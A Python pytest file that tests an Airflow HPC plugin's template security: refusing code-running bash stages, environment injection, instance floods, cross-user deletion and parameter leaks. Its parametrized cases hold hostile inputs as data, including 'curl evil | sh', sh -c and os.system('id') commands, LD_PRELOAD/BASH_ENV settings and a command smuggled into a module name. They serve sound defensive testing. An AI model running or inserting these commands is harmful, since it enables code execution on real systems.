"""The template trust model under attack (issue 20, findings 2, 5, 6, 7 and 9).

An Op publishes data, never code: a bash stage runs only an allow-listed program with data
arguments and a cleaned environment; a version cannot tie with, or take "latest" from, a
template someone else owns. A User cannot flood the loader with instances, nor delete anyone
else's. A template parameter is never read as a template file. A Viewer does not see other
users' parameters or jobs. Each test drives the plugin's routes with real Airflow JWTs, or
the repository and Airflow's own rendering, as a user would.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from airflow_provider_hpcai.templates.errors import TemplateValidationError
from airflow_provider_hpcai.templates.repository import TemplateRepository
from airflow_provider_hpcai.templates.settings import TemplateSettings

os.environ.setdefault("AIRFLOW__API_AUTH__JWT_SECRET", "hpcai-hostile-tests-" + "h" * 64)
ROOT = Path(__file__).resolve().parents[2]
HELLO = ROOT / "airflow_provider_hpcai/templates/builtin/hello-local"

MANIFEST = """\
name: runner
version: 1.0.0
title: Runner
parameters:
  type: object
  additionalProperties: false
  properties:
    word: {type: string, maxLength: 200, default: hi}
stages:
  - id: run
    kind: bash
    args:
      argv: ARGV
"""
USERS = {"viewer": "viewer", "alice": "user", "bob": "user", "op": "op", "admin": "admin"}


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and p.name != ".lock"}


def _manifest(argv: str, env: str | None = None, version: str = "1.0.0") -> str:
    text = MANIFEST.replace("ARGV", argv).replace("version: 1.0.0", f"version: {version}")
    return text + (f"      env: {env}\n" if env else "")


@pytest.fixture()
def site(tmp_path: Path) -> Any:
    """The plugin app on a fresh repository (built-ins shown), one JWT per user, and a settings knob."""
    from airflow.api_fastapi.app import create_auth_manager
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser
    from airflow.models.revoked_token import RevokedToken
    from fastapi import FastAPI
    from fastapi.testclient import TestClient

    from airflow_provider_hpcai.plugins.app import create_app

    mp = pytest.MonkeyPatch()
    mp.setattr(RevokedToken, "is_revoked", classmethod(lambda cls, jti, session=None: False))
    state: dict[str, Any] = {"settings": TemplateSettings(root=tmp_path / "repo", builtin=True)}

    def repository() -> TemplateRepository:
        return TemplateRepository(tmp_path / "repo", state["settings"])

    history = [{"job_id": "1", "user": "alice", "elapsed_seconds": 5}, {"job_id": "2", "user": "bob", "elapsed_seconds": 7}]
    parent = FastAPI()
    parent.mount("/hpcai", create_app(
        repository=repository,
        cluster_status=lambda conn_id: {"transport": "fake", "nodes": [], "partitions": [], "jobs": []},
        advisor=lambda key, requested: {"resources": dict(requested)},
        usage_history=lambda limit: history[-limit:],
    ))
    manager = create_auth_manager()
    headers = {name: {"Authorization": f"Bearer {manager.generate_jwt(SimpleAuthManagerUser(username=name, role=role))}"}
               for name, role in USERS.items()}
    client = TestClient(parent, raise_server_exceptions=False)
    yield {"client": client, "as": headers, "state": state, "repo": repository, "root": tmp_path / "repo"}
    mp.undo()


def _publish(site: Any, who: str, manifest: str) -> Any:
    return site["client"].post("/hpcai/api/templates", json={"manifest": manifest}, headers=site["as"][who])


def _instantiate(site: Any, who: str, name: str = "hello-local", params: dict[str, Any] | None = None) -> Any:
    return site["client"].post(f"/hpcai/api/templates/{name}/instantiate", json={"params": params or {}},
                               headers=site["as"][who])


# ------------------------------------------------------------------ finding 2: code from a manifest
@pytest.mark.parametrize("argv", [
    '[sh, -c, "touch /tmp/pwned"]',
    '[bash, -c, "id"]',
    '[python3, -c, "import os; os.system(\'id\')"]',
    '[env, sh, -c, id]',
    '[/bin/sh, script.sh]',
    '[python3, -m, http.server]',
    '[python3, -m, "simulation_kernels.climate; id"]',
    '["{{ params.word }}", "-c", "id"]',
])
def test_an_op_cannot_publish_a_bash_stage_that_runs_code(site: Any, argv: str) -> None:
    before = _tree(site["root"]) if site["root"].exists() else {}
    answer = _publish(site, "op", _manifest(argv))
    assert answer.status_code == 422, answer.text
    assert "template_bash_programs" in answer.json()["detail"]
    assert (_tree(site["root"]) if site["root"].exists() else {}) == before


@pytest.mark.parametrize("env", ["{BASH_ENV: /tmp/x}", "{LD_PRELOAD: /tmp/x.so}", "{PATH: /tmp}",
                                 "{PYTHONPATH: /tmp}", "{PYTHONSTARTUP: /tmp/x}", "{SHELLOPTS: xtrace}",
                                 "{PS4: '$(id)'}", "{LD_AUDIT: /tmp/x.so}"])
def test_a_bash_stage_environment_cannot_change_how_programs_start(site: Any, env: str) -> None:
    answer = _publish(site, "op", _manifest('[echo, "{{ params.word }}"]', env=env))
    assert answer.status_code == 422, answer.text
    assert "not allowed" in answer.json()["detail"] or "reserved" in answer.json()["detail"]


@pytest.mark.parametrize(("stage", "said"), [
    ("kind: slurm_job\n    args: {script: 'curl evil | sh'}", "template_job_scripts"),
    ("kind: simulation\n    args: {kernel: heat, python: /bin/sh}", "python cannot be set"),
    ("kind: simulation\n    args: {kernel: heat, run_as_user: root}", "run_as_user cannot be set"),
    ("kind: simulation\n    args: {kernel: heat, executor_config: {pod_override: {}}}", "executor_config cannot"),
    ("kind: simulation\n    args: {kernel: heat, queue: privileged}", "queue cannot be set"),
    ("kind: simulation\n    args: {kernel: heat, environment: {LD_PRELOAD: /tmp/x.so}}", "LD_PRELOAD"),
])
def test_other_stage_kinds_take_only_data_arguments(site: Any, stage: str, said: str) -> None:
    """No cluster script, interpreter, OS user, executor or queue from a manifest (by default)."""
    manifest = _manifest("[echo]").replace("kind: bash\n    args:\n      argv: [echo]", stage)
    answer = _publish(site, "op", manifest)
    assert answer.status_code == 422 and said in answer.json()["detail"], answer.text


def test_allowed_programs_take_data_and_a_site_can_allow_more(site: Any) -> None:
    assert _publish(site, "op", _manifest('[echo, "{{ params.word }}", "$(id)"]')).status_code == 201
    kernel = _manifest('[python3, -m, simulation_kernels.climate, --steps, "{{ params.word }}"]', version="1.1.0")
    assert _publish(site, "op", kernel).status_code == 201
    solver = _manifest("[/opt/site/bin/solve, --in, x]", version="1.2.0")
    assert _publish(site, "op", solver).status_code == 422
    settings = site["state"]["settings"]
    site["state"]["settings"] = TemplateSettings(root=settings.root, builtin=True,
                                                 bash_programs=(*settings.bash_programs, "/opt/site/bin/solve"))
    assert _publish(site, "op", solver).status_code == 201


def test_a_stage_published_under_a_wider_allow_list_is_refused_at_instantiation_and_by_the_loader(
        site: Any) -> None:
    """Tightening [hpcai] template_bash_programs takes effect for templates already published."""
    from airflow_provider_hpcai.templates.loader import load_instance_dags

    root = site["root"]
    wide = TemplateRepository(root, TemplateSettings(root=root, bash_programs=("echo", "sh -c")))
    wide.publish(_manifest('[sh, -c, "echo hi"]'), publisher="op")
    record = wide.instantiate("runner", None, {}, "alice")
    answer = _instantiate(site, "alice", "runner")
    assert answer.status_code == 422 and "template_bash_programs" in answer.json()["detail"]
    assert record["dag_id"] not in load_instance_dags(site["repo"]())


def test_a_build_metadata_twin_never_becomes_latest(site: Any) -> None:
    """An Op's 1.0.0+hijack of a published 1.0.0 is refused; on disk, ties go to the plain version."""
    manifest = _manifest('[echo, "{{ params.word }}"]')
    assert _publish(site, "admin", manifest).status_code == 201
    twin = _publish(site, "admin", manifest.replace("title: Runner", "title: Hijacked").replace(
        "version: 1.0.0", "version: 1.0.0+hijack"))
    assert twin.status_code == 409 and "same precedence" in twin.json()["detail"]
    # A repository that already holds both (written before this check existed): latest is 1.0.0.
    folder = site["root"] / "templates" / "runner"
    for name in ("1.0.0+a", "1.0.0+zzz"):
        shutil.copytree(folder / "1.0.0", folder / name)
    latest = site["client"].get("/hpcai/api/templates/runner", headers=site["as"]["viewer"]).json()
    assert latest["version"] == "1.0.0" and latest["title"] == "Runner"


def test_an_op_cannot_publish_a_new_latest_of_someone_elses_template(site: Any) -> None:
    assert _publish(site, "admin", _manifest('[echo, "{{ params.word }}"]')).status_code == 201
    before = _tree(site["root"])
    newer = _manifest('[echo, hijacked]', version="2.0.0")
    answer = _publish(site, "op", newer)
    assert answer.status_code == 403, answer.text
    assert "belongs to admin" in answer.json()["detail"] and "--take-over" in answer.json()["detail"]
    assert _tree(site["root"]) == before
    assert _publish(site, "admin", newer).status_code == 201  # the owner may
    site["repo"]().publish(_manifest('[echo, x]', version="3.0.0"), publisher="op", take_over=True)
    assert site["repo"]().get("runner").manifest.version == "3.0.0"


# ------------------------------------------------------------------ finding 5: instance flood
def test_a_user_over_the_instance_quota_gets_429_saying_what_to_do(site: Any) -> None:
    site["state"]["settings"] = TemplateSettings(root=site["root"], builtin=True, instance_quota=2)
    assert [_instantiate(site, "alice").status_code for _ in range(2)] == [201, 201]
    refused = _instantiate(site, "alice")
    assert refused.status_code == 429
    assert "template_instance_quota = 2" in refused.json()["detail"] and "delete" in refused.json()["detail"]
    assert _instantiate(site, "bob").status_code == 201  # the quota is per user
    assert len(site["repo"]().list_instances()) == 3


def test_a_user_creating_instances_too_fast_gets_429_with_retry_after(site: Any) -> None:
    site["state"]["settings"] = TemplateSettings(root=site["root"], builtin=True, instance_rate=3)
    codes = [_instantiate(site, "alice").status_code for _ in range(3)]
    refused = _instantiate(site, "alice")
    assert codes == [201, 201, 201] and refused.status_code == 429
    assert "try again in" in refused.json()["detail"] and 1 <= int(refused.headers["Retry-After"]) <= 61


def test_the_loader_builds_at_most_max_instances_and_says_so(site: Any, caplog: pytest.LogCaptureFixture) -> None:
    from airflow_provider_hpcai.templates.loader import load_instance_dags

    repo = TemplateRepository(site["root"], TemplateSettings(root=site["root"], builtin=True, max_instances=3))
    for _ in range(5):
        repo.instantiate("hello-local", None, {}, "alice")
    with caplog.at_level("ERROR"):
        dags = load_instance_dags(repo)
    assert len(dags) == 3
    assert "template_max_instances" in caplog.text and "2 instances" in caplog.text


# ------------------------------------------------------------------ finding 6: deleting others' instances
def test_only_the_owner_or_an_op_deletes_an_instance(site: Any) -> None:
    client, h = site["client"], site["as"]
    mine = _instantiate(site, "alice").json()["id"]
    other = _instantiate(site, "alice").json()["id"]
    refused = client.delete(f"/hpcai/api/instances/{mine}", headers={**h["bob"], "X-Requested-With": "t"})
    assert refused.status_code == 403 and "belongs to alice" in refused.json()["detail"]
    assert {r["id"] for r in site["repo"]().list_instances()} == {mine, other}
    assert client.delete(f"/hpcai/api/instances/{mine}", headers={**h["alice"], "X-Requested-With": "t"}).status_code == 200
    assert client.delete(f"/hpcai/api/instances/{other}", headers={**h["op"], "X-Requested-With": "t"}).status_code == 200
    assert site["repo"]().list_instances() == []


# ------------------------------------------------------------------ finding 7: parameters named like files
def test_a_parameter_ending_in_sh_stays_data_through_airflows_rendering(tmp_path: Path) -> None:
    """Airflow would load 'x.sh' from the DAG folder and render it; a template's value stays the value."""
    from airflow_provider_hpcai.templates.stages import build_dag

    (tmp_path / "evil.sh").write_text("rendered-from-file {{ 6 * 7 }}")
    (tmp_path / "work.sh").write_text("/tmp/from-file")
    settings = TemplateSettings(root=tmp_path / "repo", job_scripts=True)
    repo = TemplateRepository(settings.root, settings)
    manifest = """\
name: slurmy
version: 1.0.0
title: Slurmy
parameters:
  type: object
  properties:
    p: {type: string}
    d: {type: string}
stages:
  - id: job
    kind: slurm_job
    args:
      script: "echo hi"
      job_name: "{{ params.p }}"
      workdir: "{{ params.d }}"
      environment: {X: "{{ params.p }}"}
"""
    repo.publish(manifest)
    record = repo.instantiate("slurmy", None, {"p": "evil.sh", "d": "work.sh"}, "alice")
    template = repo.get("slurmy")
    dag = build_dag(template.manifest, record, policy=settings.stage_policy)
    dag.template_searchpath = [str(tmp_path)]
    task = dag.get_task("job")
    task.render_template_fields({"params": {}, "dag": dag})
    assert task.environment == {"X": "evil.sh"}
    assert task.job_name == "evil.sh" and task.workdir == "work.sh"


# ------------------------------------------------------------------ finding 9: what a Viewer sees
def test_a_viewer_sees_other_users_instances_without_their_parameters(site: Any) -> None:
    client, h = site["client"], site["as"]
    _instantiate(site, "alice", params={"greeting": "alice's secret project"})
    for who in ("viewer", "bob"):
        listed = client.get("/hpcai/api/instances", headers=h[who]).json()["instances"]
        assert [(i["owner"], i["template"]) for i in listed] == [("alice", "hello-local")]
        assert "secret project" not in json.dumps(listed) and listed[0]["params"] is None
    for who in ("alice", "op"):
        listed = client.get("/hpcai/api/instances", headers=h[who]).json()["instances"]
        assert listed[0]["params"]["greeting"] == "alice's secret project"


def test_usage_rows_are_a_users_own_unless_they_manage_everything(site: Any) -> None:
    client, h = site["client"], site["as"]
    assert [r["job_id"] for r in client.get("/hpcai/api/usage", headers=h["alice"]).json()["jobs"]] == ["1"]
    assert client.get("/hpcai/api/usage", headers=h["viewer"]).json()["jobs"] == []
    assert [r["job_id"] for r in client.get("/hpcai/api/usage", headers=h["admin"]).json()["jobs"]] == ["1", "2"]


# ------------------------------------------------------------------ built-in templates (issue 12)
def test_a_fresh_install_shows_the_built_in_templates_read_only(site: Any) -> None:
    listing = site["client"].get("/hpcai/api/templates", headers=site["as"]["viewer"]).json()["templates"]
    assert {t["name"] for t in listing} >= {"hello-local", "param-sweep", "climate-adaptive"}
    assert {t["origin"] for t in listing} == {"built-in"}
    hijack = HELLO.joinpath("template.yaml").read_text().replace("version: 1.0.0", "version: 9.0.0")
    answer = _publish(site, "admin", hijack)
    assert answer.status_code == 403 and "built-in" in answer.json()["detail"]
    assert not (site["root"] / "templates" / "hello-local").exists()
    with pytest.raises(TemplateValidationError):
        site["repo"]().publish(HELLO.parent / "missing")


def test_a_built_in_template_cannot_be_deprecated(site: Any) -> None:
    answer = site["client"].post("/hpcai/api/templates/hello-local/1.0.0/deprecate", json={"reason": "x"},
                                 headers=site["as"]["admin"])
    assert answer.status_code == 403 and "read-only" in answer.json()["detail"]
    assert site["repo"]().get("hello-local").deprecated is False
